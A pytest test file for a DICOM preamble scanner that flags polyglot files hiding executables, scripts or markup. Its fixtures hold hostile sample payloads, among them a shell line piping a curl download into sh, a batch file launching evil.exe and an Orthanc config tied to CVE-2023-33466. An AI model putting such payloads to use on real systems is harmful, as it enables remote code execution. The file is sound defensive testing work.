"""Preamble verdicts (PS3.10 §7.1, §7.5, §8.3): every polyglot form of standards.md §5.5, and no false alarm."""

from __future__ import annotations

import struct

import pytest

from dcmseal.scan import Verdict, scan_bytes, scan_file
from tests.pydicom_data import pydicom_file
from tests.scan.corpus import (
    CYLERA,
    ELF_HEADER,
    MACHO_MAGICS,
    PE_HEADER,
    part10,
    pe_bytes,
    preamble_of,
    zip_bytes,
)

MALICIOUS_PREAMBLES = {
    "pe": PE_HEADER,
    "elf": ELF_HEADER,
    **{f"macho-{m.hex()}": preamble_of(m + bytes(12)) for m in MACHO_MAGICS},
    "shebang": preamble_of(b"#!/bin/sh\ncurl http://x/y | sh\n"),
    "zip": zip_bytes()[:128],
    "pdf": preamble_of(b"%PDF-1.4\n"),
    "html": preamble_of(b"<html><script>alert(1)</script></html>"),
    "json-orthanc": preamble_of(b'{"RestApiWriteToFileSystemEnabled": true, "HttpPort": 8042}'),
    "json": preamble_of(b'{ "key": "value" }'),
    "batch": preamble_of(b"@echo off\r\nstart evil.exe\r\n"),
}
EXPECTED_CODE = {"pe": "preamble.pe", "elf": "preamble.elf", "shebang": "preamble.script", "zip": "preamble.zip",
                 "pdf": "preamble.pdf", "html": "preamble.html", "json-orthanc": "preamble.json",
                 "json": "preamble.json", "batch": "preamble.script"}  # fmt: skip


@pytest.mark.parametrize("name", sorted(MALICIOUS_PREAMBLES))
def test_active_preambles_are_malicious(name: str) -> None:
    report = scan_bytes(part10(preamble=MALICIOUS_PREAMBLES[name]), name=name)
    assert report.verdict is Verdict.MALICIOUS, report
    expected = EXPECTED_CODE.get(name, "preamble.macho")
    assert report.findings[0].code == expected
    assert report.findings[0].offset == 0


def test_orthanc_config_names_the_cve() -> None:
    report = scan_bytes(part10(preamble=MALICIOUS_PREAMBLES["json-orthanc"]), name="x")
    assert "CVE-2023-33466" in report.findings[0].message


def test_pe_header_beyond_the_preamble_is_followed() -> None:
    # e_lfanew may point past byte 128 (the Cylera layout): the scanner reads it where it points.
    data = bytearray(part10(preamble=pe_bytes(e_lfanew=0x40)[:128]))
    data[0x3C:0x40] = struct.pack("<I", 300)
    data[300:304] = b"PE\x00\x00"
    report = scan_bytes(bytes(data), name="far-pe")
    assert report.findings[0].code == "preamble.pe"


def test_mz_without_pe_is_suspicious_only() -> None:
    report = scan_bytes(part10(preamble=preamble_of(b"MZ")), name="mz")
    assert report.verdict is Verdict.SUSPICIOUS
    assert report.codes()[0] == "preamble.mz"


def test_zero_and_dicm_zero_are_clean() -> None:
    assert scan_bytes(part10(), name="zero").findings == ()
    report = scan_bytes(part10(preamble=preamble_of(b"DICM")), name="dicm")
    assert report.verdict is Verdict.CLEAN
    assert report.codes() == ("preamble.dicm-zero",)


def test_stray_bytes_are_suspicious_not_malicious() -> None:
    preamble = bytearray(128)
    preamble[0x11] = 1
    report = scan_bytes(part10(preamble=bytes(preamble)), name="stray")
    assert report.verdict is Verdict.SUSPICIOUS
    assert report.findings[0].code == "preamble.nonzero"
    assert report.findings[0].offset == 0x11


@pytest.mark.parametrize("name", ["CT_small.dcm", "MR_small.dcm"])
def test_pydicom_tiff_preambles_stay_clean_with_a_note(name: str) -> None:
    report = scan_file(pydicom_file(name))
    assert report.verdict is Verdict.CLEAN
    assert report.codes() == ("preamble.tiff", "preamble.tiff-ifd-outside")
    strict = scan_file(pydicom_file(name), allow_tiff=False)
    assert strict.verdict is Verdict.SUSPICIOUS


def test_tiff_and_bigtiff_pointing_inside_the_file_have_no_note() -> None:
    tiff = preamble_of(b"II*\x00" + struct.pack("<I", 200))
    big = preamble_of(b"MM\x00+\x00\x08\x00\x00" + struct.pack(">Q", 200))
    for preamble in (tiff, big):
        report = scan_bytes(part10(preamble=preamble), name="t")
        assert report.codes() == ("preamble.tiff",)
        assert report.verdict is Verdict.CLEAN


def test_tiff_that_also_carries_markup_is_malicious() -> None:
    report = scan_bytes(
        part10(preamble=preamble_of(b"II*\x00\x08\x00\x00\x00<script>x()</script>")), name="t"
    )
    assert report.verdict is Verdict.MALICIOUS
    assert report.findings[0].code == "preamble.html"


def test_pydicom_dicomdirtests_stray_bytes_are_never_malicious() -> None:
    root = pydicom_file("CT_small.dcm").parent / "dicomdirtests"
    reports = [scan_file(p) for p in sorted(root.rglob("*")) if p.is_file()]
    assert reports
    assert not [r.path for r in reports if r.verdict is Verdict.MALICIOUS]
    stray = [r for r in reports if "preamble.nonzero" in r.codes()]
    assert len(stray) >= 4
    assert all(r.verdict is Verdict.SUSPICIOUS for r in stray)


def test_no_pydicom_test_file_is_malicious() -> None:
    # 170-odd real files: explicit/implicit VR, big endian, deflate, encapsulated pixel data, DICOMDIRs.
    root = pydicom_file("CT_small.dcm").parent
    files = [p for p in sorted(root.rglob("*")) if p.is_file()]
    reports = [scan_file(p) for p in files]
    assert len(reports) > 100
    assert [r.path for r in reports if r.verdict is Verdict.MALICIOUS] == []
    dicom = [r for r in reports if r.kind == "dicom"]
    assert sum(r.verdict is Verdict.CLEAN for r in dicom) > 0.9 * len(dicom)


def test_cylera_pe_dicom_polyglot() -> None:
    report = scan_file(CYLERA)
    assert report.verdict is Verdict.MALICIOUS
    assert report.codes() == ("preamble.pe", "body.group-length-vr", "body.executable", "body.tag-order")
    executable = report.findings[2]
    assert (
        executable.offset == 0x16C
    )  # e_lfanew: the PE header is the private element's value (standards.md §5.4)
